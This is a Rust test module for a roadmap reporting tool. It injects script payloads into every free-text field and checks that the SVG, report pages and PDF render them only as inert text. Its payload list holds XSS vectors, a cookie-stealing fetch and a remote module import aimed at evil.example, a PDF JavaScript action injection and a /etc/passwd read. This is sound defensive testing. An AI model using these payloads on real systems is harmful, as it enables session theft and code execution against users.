//! Markup and scripts in every text of a roadmap: they come out as text, in SVG, PDF and the pages
//! of the report. The window draws no text as markup; the architecture rules see to that.

use report::Options;
use roadmaps::exchange::json;
use roadmaps::plan;
use roadmaps::say::Language;
use serde_json::Value;

use super::moment;

/// What a script would do, in the forms that it takes; each is put into each shape.
const DEEDS: [&str; 10] = [
    "alert(1)",
    "eval('1')",
    "fetch('//evil.example/'+document.cookie)",
    "window.__TAURI__.core.invoke('close')",
    "location='javascript:alert(1)'",
    "import('//evil.example/x.js')",
    "document.write(1)",
    "setTimeout(alert,0)",
    "new Function('alert(1)')()",
    "top[\"al\"+\"ert\"](1)",
];
const SHAPES: [&str; 20] = [
    "<script>DEED</script>",
    "<SCRIPT SRC=data:text/javascript,DEED></SCRIPT>",
    "<img src=x onerror=DEED>",
    "<svg onload=DEED>",
    "\"><svg/onload=DEED>",
    "'><body onpageshow=DEED>",
    "</text></svg><script>DEED</script>",
    "</title><script>DEED</script>",
    "<a href=\"javascript:DEED\">x</a>",
    "<a xlink:href=\"javascript:DEED\"><text>x</text></a>",
    "<foreignObject><iframe srcdoc=\"<script>DEED</script>\"/></foreignObject>",
    "<animate onbegin=DEED attributeName=x dur=1s>",
    "<![CDATA[<script>DEED</script>]]>",
    "]]><script>DEED</script>",
    "<!ENTITY x \"DEED\">&x;",
    "<?xml-stylesheet href=\"javascript:DEED\"?>",
    "&lt;script&gt;DEED&lt;/script&gt;",
    "\u{0}<scr\u{0}ipt>DEED</scr\u{0}ipt>",
    ")/AA<</O<</S/JavaScript/JS(DEED)>>>>(",
    "#raw(read(\"/etc/passwd\")) #eval(\"DEED\") $DEED$",
];

/// What an SVG of ours is made of. None of these runs anything; where a link or a picture leads is
/// looked at apart.
const ELEMENTS: [&str; 20] = [
    "svg", "g", "path", "rect", "line", "circle", "text", "tspan", "title", "desc", "defs",
    "style", "clipPath", "use", "symbol", "polygon", "polyline", "pattern", "image", "a",
];

/// Puts so many payloads into every text field at once and draws each roadmap.
pub fn injected_scripts(payloads: usize) -> String {
    let sound = include_str!("../../../roadmaps/tests/fixtures/every-field.v1.json");
    let sound: Value = serde_json::from_str(sound).expect("it is sound");
    let today = moment(0).date_naive();
    let all = DEEDS.len() * SHAPES.len();
    let (mut fields, mut pages) = (0, 0);
    for payload in (0..all).step_by(all / payloads) {
        let deed = DEEDS[payload / SHAPES.len()];
        let text = SHAPES[payload % SHAPES.len()].replace("DEED", deed);
        let mut value = sound.clone();
        fields = fill(&mut value, &text);
        let bytes = serde_json::to_vec(&value).expect("a value is JSON");
        let roadmap = json::read(&bytes, "injected").expect("markup is text");
        let analysis = plan::analyse(&roadmap, today);
        for language in [Language::En, Language::Nl] {
            harmless(&report::svg(&roadmap, &analysis, language), &text);
        }
        let set = report::set(&roadmap, &analysis, Language::En, Options::default());
        let set = set.expect("markup can be set");
        for page in set.pages() {
            harmless(&page, &text);
            pages += 1;
        }
        let pdf = set.pdf().expect("markup can be set");
        let structure = structure(&pdf);
        let names = structure.split('/').skip(1).map(|name| {
            let ends =
                |character: char| character.is_whitespace() || "()<>[]{}%".contains(character);
            name.split(ends).next().unwrap_or_default()
        });
        for name in names {
            let acts = ["JavaScript", "JS", "Launch", "OpenAction", "URI"].contains(&name);
            assert!(!acts, "/{name} in the PDF of {text}");
        }
    }
    format!(
        "injected scripts: {payloads} payloads in each of {fields} text fields, {} SVG, {pages} \
         pages, {payloads} PDF: none is more than text",
        payloads * 2
    )
}

/// A PDF without the contents of its strings and streams, in which any text may stand.
fn structure(pdf: &[u8]) -> String {
    let (mut kept, mut at) = (Vec::new(), 0);
    while at < pdf.len() {
        let rest = &pdf[at..];
        if rest.starts_with(b"stream\n") || rest.starts_with(b"stream\r\n") {
            let end = rest.windows(9).position(|word| word == b"endstream");
            at += end.expect("every stream ends") + 9;
        } else if rest[0] == b'(' {
            at += literal(rest);
        } else {
            kept.push(rest[0]);
            at += 1;
        }
    }
    String::from_utf8_lossy(&kept).into_owned()
}

/// How long a string of a PDF is: until its parentheses are balanced, those after a backslash not
/// counted (ISO 32000-2, 7.3.4.2).
fn literal(text: &[u8]) -> usize {
    let (mut depth, mut at) = (0, 0);
    while let Some(&byte) = text.get(at) {
        at += 1;
        match byte {
            b'\\' => at += 1,
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return at;
        }
    }
    panic!("a string of the PDF does not end");
}

/// Writes a text into every field that holds free text, and counts them.
fn fill(value: &mut Value, text: &str) -> u32 {
    const FREE: [&str; 26] = [
        "title",
        "story",
        "owner",
        "notes",
        "text",
        "idea",
        "unit",
        "metric",
        "levels",
        "raters",
        "lenses",
        "reason",
        "hypothesis",
        "cohort",
        "scale",
        "adapt",
        "stop",
        "trips",
        "decider",
        "heard",
        "by",
        "holidays",
        "future",
        "provider",
        "letter",
        "role",
    ];
    match value {
        Value::Object(fields) => fields
            .iter_mut()
            .map(|(name, value)| match value {
                Value::String(old) if FREE.contains(&name.as_str()) => {
                    text.clone_into(old);
                    1
                }
                Value::Array(items) if FREE.contains(&name.as_str()) => {
                    for item in items.iter_mut().filter(|item| item.is_string()) {
                        *item = text.into();
                    }
                    1
                }
                value => fill(value, text),
            })
            .sum(),
        Value::Array(items) => items.iter_mut().map(|item| fill(item, text)).sum(),
        _ => 0,
    }
}

/// Sees that a drawing has only elements of ours, and no attribute that runs or leads elsewhere.
fn harmless(svg: &str, payload: &str) {
    let mut rest = svg;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest.find('>').expect("every mark is closed");
        let mark = rest[..end].trim_matches('/');
        let name = mark.split([' ', '\n', '/']).next().unwrap_or_default();
        assert!(ELEMENTS.contains(&name), "<{name}> of {payload}");
        // Values stand in quotation marks: every second piece is a name.
        for attribute in mark[name.len()..].split('"').step_by(2) {
            let attribute = attribute.trim().trim_end_matches('=');
            assert!(!attribute.starts_with("on"), "{attribute} of {payload}");
        }
        for (at, value) in mark.split('"').enumerate().filter(|(at, _)| at % 2 == 1) {
            let name = mark.split('"').nth(at - 1).unwrap_or_default();
            let leads = name.trim_end().ends_with("href=");
            // A picture within is drawn without running what it holds.
            let within = value.starts_with('#') || value.starts_with("data:image/");
            assert!(!leads || within, "{value} of {payload}");
        }
        rest = &rest[end..];
    }
}
